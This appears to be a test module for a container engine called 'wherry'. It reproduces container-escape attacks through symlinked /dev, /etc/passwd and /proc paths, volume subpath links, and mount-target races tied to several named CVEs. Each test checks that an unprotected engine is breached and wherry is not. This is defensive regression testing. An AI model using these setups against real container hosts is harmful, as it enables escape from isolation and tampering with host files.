/** Attacks on what is mounted while a container starts: links in the image and in its volumes, and races. @module */

import { deepStrictEqual, doesNotMatch, match, ok, strictEqual } from "node:assert/strict";
import { install, testAttack, type Victim } from "./attack.ts";
import { eventually, listNames } from "./harness.ts";

/** Leads out of any root, if something resolves it on the host. */
const OUTSIDE = "../../../../../../../../../..";

/** A directory that nobody has a reason to look at. */
function makeCanary({ wherry }: Victim): string {
  const canary = `${wherry.directory}/canary`;
  Deno.mkdirSync(canary);
  return canary;
}

/** A directory of the attacker, to be mounted into a container. */
function makeVolume({ wherry }: Victim, name: string): string {
  const volume = `${wherry.scratch}/${name}`;
  Deno.mkdirSync(volume);
  return volume;
}

/** Replaces what the image has at `path` by a link. */
async function link({ wherry, image }: Victim, path: string, target: string): Promise<void> {
  await wherry.runHost("rm", "-rf", image + path);
  Deno.symlinkSync(target, image + path);
}

testAttack(
  "an image whose /dev is a link to a directory of the host",
  async (victim) => {
    const canary = makeCanary(victim);
    await link(victim, "/dev", OUTSIDE + canary);
    await victim.run([], ["true"]);
    return listNames(canary);
  },
  {
    unprotected: (names) => ok(names.includes("null"), names.join()),
    wherry: (names) => deepStrictEqual(names, []),
  },
);

testAttack(
  "an image whose /etc/hostname is a link to a file of the host",
  async (victim) => {
    const file = `${makeCanary(victim)}/file`;
    Deno.writeTextFileSync(file, "the host's\n");
    await link(victim, "/etc/hostname", OUTSIDE + file);
    await victim.run([], ["true"]);
    return Deno.readTextFileSync(file);
  },
  {
    unprotected: (content) => strictEqual(content, "naive\n"),
    wherry: (content) => strictEqual(content, "the host's\n"),
  },
);

testAttack(
  "an image whose /etc/passwd is a link to a file of the host",
  async (victim) => {
    const file = `${makeCanary(victim)}/passwd`;
    Deno.writeTextFileSync(file, "somebody:x:4321:4321::/:/bin/sh\n");
    await link(victim, "/etc/passwd", OUTSIDE + file);
    return await victim.run(["-u", "somebody"], ["id", "-u"]);
  },
  {
    unprotected: ({ stdout }) => strictEqual(stdout, "4321\n"),
    wherry: ({ code, stdout, stderr }) => {
      deepStrictEqual([code, stdout], [125, ""]);
      doesNotMatch(stderr, /4321/);
    },
  },
);

/** Longer than any engine takes to refuse a container, in seconds. */
const LONG = "10";

testAttack(
  "an image whose /etc/passwd is a FIFO that nobody writes to",
  async (victim) => {
    await victim.wherry.runHost("rm", `${victim.image}/etc/passwd`);
    await victim.wherry.runHost("mkfifo", `${victim.image}/etc/passwd`);
    const argv = victim.runCommandLine(["-u", "somebody"], ["true"]);
    return (await victim.wherry.runCommand(["timeout", "-k", "1", LONG, ...argv])).code;
  },
  {
    unprotected: (code) => strictEqual(code, 124, "It has ended by itself"),
    wherry: (code) => strictEqual(code, 125),
  },
);

testAttack(
  "a /dev/null that is a link, under the mask of a hidden file (CVE-2025-31133)",
  async (victim) => {
    const file = `${makeCanary(victim)}/file`;
    Deno.writeTextFileSync(file, "the host's\n");
    const dev = makeVolume(victim, "dev");
    Deno.symlinkSync(OUTSIDE + file, `${dev}/null`);
    const script = "cat /proc/interrupts; echo attacked >/proc/interrupts";
    const { stdout } = await victim.run(["-v", `${dev}:/dev`], ["sh", "-c", script]);
    return { stdout, content: Deno.readTextFileSync(file) };
  },
  {
    unprotected: (evidence) =>
      deepStrictEqual(evidence, { stdout: "the host's\n", content: "attacked\n" }),
    wherry: ({ stdout, content }) => {
      strictEqual(content, "the host's\n");
      doesNotMatch(stdout, /the host's/);
    },
  },
);

testAttack(
  "a /dev/console that is a link (CVE-2025-52565)",
  async (victim) => {
    const canary = makeCanary(victim);
    const dev = makeVolume(victim, "dev");
    Deno.symlinkSync(`${OUTSIDE}${canary}/made`, `${dev}/console`);
    Deno.symlinkSync("/tmp", `${dev}/pts`);
    await victim.run(["-t", "-v", `${dev}:/dev`], ["true"]);
    return listNames(canary);
  },
  {
    unprotected: (names) => deepStrictEqual(names, ["made"]),
    wherry: (names) => deepStrictEqual(names, []),
  },
);

/** Of the settings that engines write for each container, one that all of them write. */
const SETTING = "sys/net/ipv4/ip_unprivileged_port_start";

testAttack(
  "a /proc of the attacker's, in which a setting is a link (CVE-2019-16884, CVE-2025-52881)",
  async (victim) => {
    const file = `${makeCanary(victim)}/file`;
    Deno.writeTextFileSync(file, "the host's\n");
    const proc = makeVolume(victim, "proc");
    Deno.mkdirSync(`${proc}/sys/net/ipv4`, { recursive: true });
    Deno.symlinkSync(OUTSIDE + file, `${proc}/${SETTING}`);
    await victim.run(["-v", `${proc}:/proc`], ["true"]);
    return Deno.readTextFileSync(file);
  },
  {
    unprotected: (content) => strictEqual(content, "0\n"),
    wherry: (content) => strictEqual(content, "the host's\n"),
  },
);

testAttack(
  "a /proc of the attacker's, in which nothing is hidden (CVE-2019-16884)",
  async (victim) => {
    const proc = makeVolume(victim, "proc");
    Deno.mkdirSync(`${proc}/self/attr`, { recursive: true });
    Deno.writeTextFileSync(`${proc}/self/attr/exec`, "");
    const { code, stdout } = await victim.run(["-v", `${proc}:/proc`], [
      "sh",
      "-c",
      "ls /proc/self",
    ]);
    return code === 0 ? stdout : "";
  },
  {
    unprotected: (output) => strictEqual(output, "attr\n"),
    wherry: (output) => strictEqual(output, ""),
  },
);

/** How many containers are started while a component of their mount's target changes; wherry takes longer for each. */
const STARTS = { unprotected: 200, wherry: 30 } as const;

for (const [what, outside] of [["absolute", ""], ["relative", OUTSIDE]] as const) {
  testAttack(
    `exchanging a component of a mount's target for a link that is ${what} (CVE-2021-30465)`,
    async (victim) => {
      const canary = makeCanary(victim);
      const shared = makeVolume(victim, "shared");
      const source = makeVolume(victim, "source");
      Deno.mkdirSync(`${shared}/one`);
      Deno.symlinkSync(outside + canary, `${shared}/other`);
      await install(victim, "swap");
      await victim.start(["-v", `${shared}:/shared`], ["/swap", "/shared/one", "/shared/other"]);
      await eventually(() => victim.readOutput().includes("swapping"));
      const flags = ["-v", `${shared}:/shared`, "-v", `${source}:/shared/one/deep`];
      const starts = STARTS[victim.isProtected ? "wherry" : "unprotected"];
      let started = 0;

      for (let i = 0; i < starts && listNames(canary).length === 0; i++) {
        const { code } = await victim.run(flags, ["true"]);
        if (code === 0) started++;
      }

      const output = victim.readOutput();
      await victim.stop();
      return { names: listNames(canary), started, output };
    },
    {
      unprotected: ({ names }) => deepStrictEqual(names, ["deep"]),
      wherry: ({ names, started, output }) => {
        deepStrictEqual(names, []);
        ok(started > 0, "No container came up at all");
        match(output, /swapping\n$/);
      },
    },
  );
}

testAttack(
  "a volume in which the target of another mount is a link to a directory of the host",
  async (victim) => {
    const canary = makeCanary(victim);
    const volume = makeVolume(victim, "volume");
    Deno.symlinkSync(OUTSIDE + canary, `${volume}/nested`);
    const source = makeVolume(victim, "source");
    const flags = ["-v", `${volume}:/volume`, "-v", `${source}:/volume/nested/deep`];
    await victim.run(flags, ["true"]);
    return listNames(canary);
  },
  {
    unprotected: (names) => deepStrictEqual(names, ["deep"]),
    wherry: (names) => deepStrictEqual(names, []),
  },
);

testAttack(
  "an image in which a mount's target is a chain of links to a directory of the host",
  async (victim) => {
    const canary = makeCanary(victim);
    Deno.mkdirSync(`${victim.image}/srv/links`, { recursive: true });
    await link(victim, "/data", "srv/links/1");
    await link(victim, "/srv/links/1", "./2");
    await link(victim, "/srv/links/2", `../${OUTSIDE}${canary}`);
    const source = makeVolume(victim, "source");
    await victim.run(["-v", `${source}:/data/deep`], ["true"]);
    return listNames(canary);
  },
  {
    unprotected: (names) => deepStrictEqual(names, ["deep"]),
    wherry: (names) => deepStrictEqual(names, []),
  },
);

/** What is only on the host. */
const SECRET = "the host's secret\n";

/** Makes a directory of the host with a file `secret`. */
function makeSecret(victim: Victim): string {
  const canary = makeCanary(victim);
  Deno.writeTextFileSync(`${canary}/secret`, SECRET);
  return canary;
}

/** Makes a volume in which containers have done what they liked; @returns where it is on the host. */
async function makeHostileVolume(victim: Victim): Promise<string> {
  if (!victim.isProtected) return makeVolume(victim, "hostile");
  await victim.wherry.runHost(...victim.wherry.commandLine(["volume", "create", "hostile"]));
  return `${victim.wherry.root}/volumes/hostile/_data`;
}

/** Flags that mount a part of a volume. */
function mountSubpath(victim: Victim, volume: string, subpath: string): string[] {
  if (!victim.isProtected) return ["-v", `${volume}/${subpath}:/part`];
  return ["--mount", `type=volume,source=hostile,target=/part,volume-subpath=${subpath}`];
}

for (const [what, prefix] of [["absolute", ""], ["relative", OUTSIDE]] as const) {
  testAttack(
    `a part of a volume that is a link to the host, ${what} (CVE-2017-1002101)`,
    async (victim) => {
      const secret = makeSecret(victim);
      const volume = await makeHostileVolume(victim);
      Deno.symlinkSync(prefix + secret, `${volume}/part`);
      return await victim.run(mountSubpath(victim, volume, "part"), ["cat", "/part/secret"]);
    },
    {
      unprotected: ({ stdout }) => strictEqual(stdout, SECRET),
      wherry: ({ code, stdout }) => deepStrictEqual([code, stdout], [125, ""]),
    },
  );
}

testAttack(
  "exchanging a part of a volume for a link while it is mounted (CVE-2021-25741)",
  async (victim) => {
    const secret = makeSecret(victim);
    const volume = await makeHostileVolume(victim);
    Deno.mkdirSync(`${volume}/one/part`, { recursive: true });
    Deno.writeTextFileSync(`${volume}/one/part/secret`, "the volume's\n");
    Deno.symlinkSync(OUTSIDE + victim.wherry.directory, `${volume}/other`);
    Deno.mkdirSync(`${victim.wherry.directory}/part`);
    Deno.copyFileSync(`${secret}/secret`, `${victim.wherry.directory}/part/secret`);
    await install(victim, "swap");
    const shared = victim.isProtected ? "hostile:/shared" : `${volume}:/shared`;
    await victim.start(["-v", shared], ["/swap", "/shared/one", "/shared/other"]);
    await eventually(() => victim.readOutput().includes("swapping"));
    const starts = STARTS[victim.isProtected ? "wherry" : "unprotected"];
    const seen = new Set<string>();

    for (let i = 0; i < starts && !seen.has(SECRET); i++) {
      const flags = mountSubpath(victim, volume, "one/part");
      const { code, stdout } = await victim.run(flags, ["cat", "/part/secret"]);
      if (code === 0) seen.add(stdout);
    }

    await victim.stop();
    return [...seen];
  },
  {
    unprotected: (seen) => ok(seen.includes(SECRET)),
    wherry: (seen) => deepStrictEqual(seen, ["the volume's\n"]),
  },
);
